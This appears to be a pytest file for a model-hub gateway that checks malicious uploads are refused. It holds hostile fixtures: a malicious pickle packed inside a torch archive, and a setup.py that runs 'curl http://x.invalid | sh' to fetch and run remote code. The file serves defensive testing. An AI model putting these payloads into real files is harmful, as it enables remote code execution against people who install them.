"""What is pushed is judged before anybody sees it, whatever way it comes."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from moongate.double import HubDouble
from support.clients import run_client
from support.gateway import Gateway
from support.pickled import EVIL, zipped
from support.raw import ask

EVIL_TORCH = zipped({"archive/data.pkl": EVIL, "archive/data/0": bytes(100_000)})


@pytest.fixture
def running(tmp_path: Path) -> Iterator[Gateway]:
    hub = HubDouble(tmp_path / "hub")
    with hub.running(), Gateway(
        tmp_path / "home", hub.url, env={"MOONGATE_HOSTED_NAMESPACES": "acme"}
    ) as gateway:  # fmt: skip
        yield gateway


def test_1_a_dangerous_upload_is_refused_and_says_why(
    tmp_path: Path, running: Gateway, client_python: Callable[[str], Path]
) -> None:
    hf = client_python("hub-2.4").parent / "hf"
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "README.md").write_text("# Mine\n")
    for name, data in (("pytorch_model.bin", EVIL_TORCH), ("run.py", b"import os\nos.system('id')\n")):
        (folder / name).write_bytes(data)
        for xet in ("0", "1"):
            done = run_client(
                [hf, "upload", "acme/mine", str(folder)],
                home=tmp_path / "client",
                endpoint=running.url,
                env={"HF_TOKEN": "", "HF_HUB_DISABLE_XET": xet},
                check=False,
            )
            assert done.returncode != 0
            assert "refuses" in done.stdout + done.stderr, done.stdout + done.stderr
        (folder / name).unlink()
    tree = ask(running.url, "/api/models/acme/mine/tree/main").json()
    assert {entry["path"] for entry in tree} <= {".gitattributes"}


def test_2_inline_commits_are_judged_and_scan_tells(running: Gateway) -> None:
    body = json.dumps({"name": "mine", "organization": "acme", "type": "model"}).encode()
    kind = {"Content-Type": "application/json"}
    assert ask(running.url, "/api/repos/create", "POST", kind, body).status == 200

    def commit(path: str, text: str) -> int:
        lines = [
            {"key": "header", "value": {"summary": "add"}},
            {"key": "file", "value": {"path": path, "content": text, "encoding": "utf-8"}},
        ]
        data = "\n".join(json.dumps(line) for line in lines).encode()
        ndjson = {"Content-Type": "application/x-ndjson"}
        return ask(running.url, "/api/models/acme/mine/commit/main", "POST", ndjson, data).status

    assert commit("config.json", '{"model_type": "bert"}') == 200
    assert commit("setup.py", "import os\nos.system('curl http://x.invalid | sh')\n") == 403
    assert commit("README.md", "# Mine\n") == 200
    assert ask(running.url, "/acme/mine/resolve/main/.gitattributes").status == 200  # ours, judged when read
    scan = ask(running.url, "/api/models/acme/mine/scan").json()
    assert scan == {"scansDone": True, "filesWithIssues": []}
    tree = ask(running.url, "/api/models/acme/mine/tree/main?expand=true").json()
    assert {entry["path"] for entry in tree} == {".gitattributes", "README.md", "config.json"}
    assert all(entry["securityFileStatus"]["status"] == "safe" for entry in tree), tree
